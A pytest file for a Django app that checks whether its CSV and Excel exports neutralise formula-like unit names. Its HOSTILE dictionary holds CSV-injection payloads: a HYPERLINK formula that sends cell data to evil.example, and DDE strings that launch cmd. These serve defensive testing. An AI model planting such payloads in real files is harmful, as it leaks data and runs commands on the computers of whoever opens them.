"""Every CSV and Excel download of the application, with units named like formulas: no cell
is a formula, every hostile name is written as text (apps.exports is the one guard).

The pages are those of the permission matrix's rules (every page has one), asked as the
administrator, with and without ``?format=csv``; the API's GET operations too."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from typing import Any

from django.db.models import F
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from apps.submissions.models import Submission
from apps.units.models import Unit
from tests.web.api.test_openapi import operations
from tests.web.security.conftest import Scene
from tests.web.security.rules import PAGE_RULES

HOSTILE = {
    "A01": '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "A02": "@SUM(1+1)*cmd|' /C calc'!A0",
    "B01": "+1+cmd|' /C calc'!A0",
}
_FORMULA = ("=", "+", "-", "@", "\t", "\r")
_XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _body(response: Any) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return bytes(response.content)


def _cells(response: Any) -> tuple[str, list[Any]] | None:
    """("csv"|"xlsx", every cell) of a spreadsheet download, None for anything else."""
    kind = str(response.get("Content-Type", ""))
    body = _body(response)
    if kind.startswith("text/csv"):
        text = body.decode("utf-8-sig")
        return "csv", [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    if kind.startswith(_XLSX) or (body.startswith(b"PK") and b"xl/" in body[:2000]):
        book = load_workbook(io.BytesIO(body))
        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
        return "xlsx", cells
    return None


def _check(where: str, kind: str, cells: list[Any]) -> list[str]:
    """Problems of one download: a formula cell, a text a spreadsheet would run, or (for the
    registry's exports) no unit name at all, which would make the check vacuous. The 自评表
    prints the name its report states: its own test types a formula there
    (tests/web/api/test_submissions.py)."""
    registry = "/download/" not in where and "/report/" not in where
    problems = []
    seen_hostile = False
    for cell in cells:
        if kind == "xlsx":
            if cell.data_type == "f":
                problems.append(f"{where}: 公式单元格 {cell.coordinate}={cell.value!r}")
            value = cell.value
        else:
            value = cell
        if not isinstance(value, str):
            continue
        if any(name in value for name in HOSTILE.values()):
            seen_hostile = True
        stripped = value.lstrip(" ")
        if stripped.startswith(_FORMULA) and not re.fullmatch(r"-?[0-9.]+%?", stripped):
            problems.append(f"{where}: 未经处理的单元格 {value!r}")
    if registry and not seen_hostile:
        problems.append(f"{where}: 没有出现单位名称（检查不到）")
    return problems


def _rename(scene: Scene) -> None:
    """The units renamed, and the name each report states too (the 自评表 prints that)."""
    for code, name in HOSTILE.items():
        Unit.objects.filter(code=code).update(name=name)
    for submission in Submission.objects.select_related("unit"):
        data = {**submission.data, "unit_name": submission.unit.name}
        Submission.objects.filter(pk=submission.pk).update(
            data=data, lock_version=F("lock_version") + 1
        )


def test_every_csv_and_xlsx_download_neutralises_a_formula_like_unit_name(
    scene: Scene, django_capture_on_commit_callbacks: Callable[..., Any]
) -> None:
    _rename(scene)
    admin = Client()
    admin.force_login(scene.world.admin)

    class Worker:
        """Each request, then the background work it queued (rendering a download)."""

        def get(self, url: str) -> Any:
            with django_capture_on_commit_callbacks(execute=True):
                return admin.get(url)

    client = Worker()
    found: dict[str, str] = {}
    problems: list[str] = []
    for name, rules in PAGE_RULES.items():
        for rule in rules:
            if rule.method != "GET":
                continue
            for variant in rule.variants:
                kwargs = {**(rule.kwargs(scene, "own") if rule.kwargs else {}), **variant}
                url = reverse(name, kwargs=kwargs or None)
                for query in ("", "?format=csv"):
                    response = client.get(url + query)
                    if response.status_code == 202:  # a file being written: ask again
                        response = client.get(url + query)
                    got = _cells(response)
                    if got is not None:
                        found[f"{name}{query}"] = got[0]
                        problems += _check(f"{url}{query}", *got)
    for method, path, _ in operations():
        if method != "GET":
            continue
        url = path.replace("{pk}", str(scene.own.pk)).replace("{fmt}", "xlsx")
        if "{" in url:
            continue
        response = client.get(url)
        if response.status_code == 202:
            response = client.get(url)
        got = _cells(response)
        if got is not None:
            found[f"api {path}"] = got[0]
            problems += _check(url, *got)
    assert not problems, "\n".join(problems)
    # The walk reached every kind of export there is (else it proves nothing).
    assert {
        "publications:campaign_csv",
        "campaigns:export",
        "rectification:budget_review?format=csv",
        "api /api/submissions/{pk}/report/{fmt}",
    } <= set(found), sorted(found)
    assert any(key.startswith("submissions:render") for key in found), sorted(found)
